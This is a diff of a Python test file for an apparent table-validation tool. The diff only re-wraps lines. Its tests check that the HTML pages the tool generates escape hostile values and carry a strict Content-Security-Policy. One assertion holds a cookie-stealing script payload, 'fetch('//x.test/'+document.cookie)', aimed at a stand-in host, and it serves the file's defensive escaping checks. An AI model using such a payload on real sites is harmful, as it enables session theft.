@@ -53,14 +53,19 @@ def test_an_expectation_that_crashed_is_an_error_of_the_check_and_blocks():
 def test_a_crashed_warning_blocks_too():
     numbers = with_column("problems", "reference_code", pa.array([1, 2]))
     failed = [c for c in check_table("problems", numbers, full_context()) if not c.success]
-    assert [(c.expectation, c.crashed, c.blocking) for c in failed] == [("reference_code_present", True, True)]
+    assert [(c.expectation, c.crashed, c.blocking) for c in failed] == [
+        ("reference_code_present", True, True)
+    ]
     assert "AttributeError" in failed[0].detail
 
 
 def test_rows_that_cannot_be_read_crash_every_rule_on_them(tmp_path: Path):
     no_steps = valid_tables()["episodes"].drop_columns(["steps"])
     checks = check_table("episodes", no_steps, full_context(docs_dir=tmp_path / "docs"))
-    by_grain = {frame.grain: {c.crashed for c in checks if c.suite.endswith(frame.grain)} for frame in SUITES["episodes"].frames}
+    by_grain = {
+        frame.grain: {c.crashed for c in checks if c.suite.endswith(frame.grain)}
+        for frame in SUITES["episodes"].frames
+    }
     assert by_grain == {
         "one row per episode": {True},
         "one row per wanted episode": {False},
@@ -76,13 +81,20 @@ def test_a_finding_is_no_crash():
     def spoil(rows: Rows) -> None:
         rows[0]["value"] = 7.0
 
-    failed = [c for c in check_table("scores", corrupted("scores", spoil), full_context()) if not c.success]
+    failed = [
+        c
+        for c in check_table("scores", corrupted("scores", spoil), full_context())
+        if not c.success
+    ]
     assert {c.expectation for c in failed} == {"value_in_range", "metrics_agree"}
     assert not any(c.crashed for c in failed)
 
 
 def test_a_table_without_a_suite_is_named():
-    with pytest.raises(UnknownName, match=r"unknown table with a suite 'nights'; known: dialogs, problems, episodes"):
+    with pytest.raises(
+        UnknownName,
+        match=r"unknown table with a suite 'nights'; known: dialogs, problems, episodes",
+    ):
         check_table("nights", valid_tables()["scores"], full_context())
 
 
@@ -113,7 +125,11 @@ def test_the_index_lists_every_table_of_the_run(tmp_path: Path):
     assert links == [f"{table}.html" for table in sorted(SUITES)]
     assert all((docs / RUN / str(link)).is_file() for link in links)
     assert "due_score_present" in index.text
-    back = [a["href"] for tag, a in Page(docs / RUN / "scores.html").tags if tag == "a" and "index" in (a.get("href") or "")]
+    back = [
+        a["href"]
+        for tag, a in Page(docs / RUN / "scores.html").tags
+        if tag == "a" and "index" in (a.get("href") or "")
+    ]
     assert back
     assert set(back) == {"index.html"}
 
@@ -137,7 +153,11 @@ def test_docs_without_a_folder_are_refused():
 def test_docs_escape_what_tables_hold(table: str, column: str, tmp_path: Path):
     def spoil(rows: Rows) -> None:
         for row in rows:
-            row |= {column: HOSTILE, "row_digest": HOSTILE} if "row_digest" in row else {column: HOSTILE, "episode_id": HOSTILE}
+            row |= (
+                {column: HOSTILE, "row_digest": HOSTILE}
+                if "row_digest" in row
+                else {column: HOSTILE, "episode_id": HOSTILE}
+            )
 
     context = full_context(docs_dir=tmp_path / "docs", model=f"openai:{HOSTILE}")
     check_table(table, corrupted(table, spoil), context)
@@ -145,7 +165,9 @@ def test_docs_escape_what_tables_hold(table: str, column: str, tmp_path: Path):
     assert len(pages) == 2
     assert any("fetch('//x.test/'+document.cookie)" in page.text for page in pages)
     for page in pages:
-        assert [tag for tag, _ in page.tags if tag in ("script", "img", "iframe", "link", "object")] == []
+        assert [
+            tag for tag, _ in page.tags if tag in ("script", "img", "iframe", "link", "object")
+        ] == []
         assert [name for _, attrs in page.tags for name in attrs if name.startswith("on")] == []
 
 
@@ -154,7 +176,9 @@ def test_docs_escape_the_message_of_a_crash(tmp_path: Path):
         def get(self, *args: object) -> tuple[float, float]:
             raise RuntimeError(HOSTILE)
 
-    context = full_context(docs_dir=tmp_path / "docs", metric_ranges=Quoting({"accuracy": (0, 1), "all_held": (0, 1)}))
+    context = full_context(
+        docs_dir=tmp_path / "docs", metric_ranges=Quoting({"accuracy": (0, 1), "all_held": (0, 1)})
+    )
     crashed = [c for c in check_table("scores", valid_tables()["scores"], context) if c.crashed]
     assert [c.expectation for c in crashed] == ["value_in_range"]
     page = Page(tmp_path / "docs" / RUN / "scores.html")
@@ -166,9 +190,16 @@ def test_docs_load_and_run_nothing(tmp_path: Path):
     check_table("scores", valid_tables()["scores"], full_context(docs_dir=tmp_path / "docs"))
     for name in ("scores.html", "index.html"):
         page = Page(tmp_path / "docs" / RUN / name)
-        policy = next(a["content"] for tag, a in page.tags if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy")
+        policy = next(
+            a["content"]
+            for tag, a in page.tags
+            if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy"
+        )
         assert policy == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
-        assert page.tags.index(("meta", {"http-equiv": "Content-Security-Policy", "content": policy})) <= 3
+        assert (
+            page.tags.index(("meta", {"http-equiv": "Content-Security-Policy", "content": policy}))
+            <= 3
+        )
         assert [a for _, a in page.tags if "src" in a] == []
         assert re.findall(r"@import|url\(", (tmp_path / "docs" / RUN / name).read_text()) == []
 
